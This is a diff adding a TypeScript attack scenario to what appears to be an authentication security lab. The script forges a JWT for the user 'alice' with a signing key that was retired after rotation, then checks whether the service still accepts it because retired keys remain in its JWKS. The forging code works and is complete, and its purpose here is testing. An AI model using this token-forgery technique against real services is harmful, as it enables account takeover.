@@ -1,0 +1,55 @@
+/**
+ * Once, a developer copied the service's signing key to a laptop to mint test tokens, and the
+ * laptop was stolen. Nobody worried: the key is rotated every 90 days. The thief waits until the
+ * key has been retired, then signs its own access token for alice with it.
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { blocked, defineAttack, type LabTarget, worked } from '@authlab/lab-kit';
+import { decodeJwt, decodeProtectedHeader, importJWK, SignJWT } from 'jose';
+
+const DAY = 24 * 3600 * 1000;
+
+/** Mallory is an ordinary account of the attacker's: her tokens show which key signs today. */
+async function signInAsMallory(lab: LabTarget): Promise<string> {
+  const response = await fetch(`${lab.url}/login`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ username: 'mallory', password: 'correct-horse-battery-staple' }),
+  });
+  if (!response.ok) throw new Error(`mallory could not sign in: ${response.status}`);
+  return ((await response.json()) as { access_token: string }).access_token;
+}
+
+export default defineAttack({
+  title: 'forge a token for alice with a signing key that was retired a day ago',
+  why: 'the service keeps every retired key in its JWKS for ever, so a key that leaked once never stops working',
+  async run(lab) {
+    // Day 0: the key that signs today is the one the developer copied (the lab takes the copy
+    // from the service's key file).
+    const { kid } = decodeProtectedHeader(await signInAsMallory(lab));
+    const { keys } = JSON.parse(readFileSync(join(lab.dataDir, 'keys.json'), 'utf8'));
+    const copy = keys.find((key: { kid: string }) => key.kid === kid);
+    if (!copy) throw new Error(`keys.json holds no key with kid ${kid}`);
+    const stolenKey = await importJWK(copy.jwk, 'EdDSA');
+
+    // Day 91: the scheduled rotation has happened; mallory's new token shows the key now signing.
+    await lab.advanceClock(91 * DAY);
+    const today = await signInAsMallory(lab);
+    const rotated = decodeProtectedHeader(today).kid !== kid;
+
+    // Day 92: every token the stolen key ever signed has long expired. The thief signs a new one.
+    await lab.advanceClock(DAY);
+    const now = (decodeJwt(today).iat as number) + DAY / 1000;
+    const forged = await new SignJWT({ sub: 'alice' })
+      .setProtectedHeader({ alg: 'EdDSA', kid })
+      .setIssuedAt(now)
+      .setExpirationTime(now + 15 * 60)
+      .sign(stolenKey);
+    const me = await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${forged}` } });
+    const age = rotated ? 'was retired a day ago' : 'still signs after 92 days (no rotation happened)';
+    return me.ok
+      ? worked(`key ${kid} ${age}, yet a token for alice signed with it got GET /api/me → 200 ${await me.text()}`)
+      : blocked(`key ${kid} ${age}; the token forged with it was refused (${me.status})`);
+  },
+});
